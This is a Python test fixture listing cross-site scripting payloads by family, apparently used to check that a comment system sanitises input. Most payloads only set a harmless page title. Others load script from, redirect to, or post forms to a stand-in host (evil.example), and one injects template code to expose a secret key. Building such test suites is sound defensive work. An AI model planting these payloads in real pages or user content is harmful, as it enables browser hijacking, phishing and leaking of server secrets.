"""What people type who want it to run in somebody else's browser, by family; each says so in the title.

Also for tests of other places where a comment's words come out, such as mail and feeds.
"""

RAN = "document.title='ran'"

SCRIPTS = [
    f"<script>{RAN}</script>",
    f"<ScRiPt/x>{RAN}</sCrIpT >",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    '<script src="//evil.example/x.js"></script>',
    f"<svg><script>{RAN}</script></svg>",
]
HANDLERS = [
    f'<img src=x onerror="{RAN}">',
    f"<img/src=x/onerror={RAN}//",
    f'<svg/onload="{RAN}">',
    f'<details open ontoggle="{RAN}">',
    f'<input autofocus onfocus="{RAN}">',
    f'<video><source onerror="{RAN}"></video>',
    f'<marquee onstart="{RAN}">',
    f'<body onload="{RAN}">',
]
OUT_OF_ATTRIBUTES = [
    f'" autofocus onfocus="{RAN}',
    f"' autofocus onfocus='{RAN}",
    f'"><svg onload="{RAN}">',
    f'\'><svg onload="{RAN}">',
    f"` onmouseover=`{RAN}",
]
OUT_OF_ELEMENTS = [
    f"</textarea><script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
]
ADDRESSES = [
    f"[a](javascript:{RAN})",
    f"<javascript:{RAN}>",
    f"[a](java&Tab;script&colon;{RAN})",
    f"[a](data:text/html,<script>{RAN}</script>)",
    f"![a](x onerror={RAN})",
    f'[a](https://e.example "onclick={RAN}")',
    f"https://e.example/\"onmouseover='{RAN}'",
]
FRAMES = [
    "<iframe srcdoc=\"<script>top.document.title='ran'</script>\"></iframe>",
    f'<object data="data:text/html,<script>{RAN}</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button>Post comment</button></form>',
    "<style>*{background:url(//evil.example)}</style>",
    '<link rel="stylesheet" href="//evil.example">',
]
# In the words of what the pages are made with.
OUR_OWN = [
    "{{ settings.SECRET_KEY }}{% debug %}",
    '<b hx-get="/polls/" hx-trigger="load">',
    f'<b hx-on:htmx:load="{RAN}">',
    '<p id="respond" data-ballot-url="//evil.example">',
]
UNSEEN = [
    f"\u202e<script>{RAN}</script>",
    f"＜script＞{RAN}＜/script＞",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RAN}>'>",
]
PAYLOADS = [
    *(SCRIPTS + HANDLERS + OUT_OF_ATTRIBUTES + OUT_OF_ELEMENTS),
    *(ADDRESSES + FRAMES + OUR_OWN + UNSEEN),
]
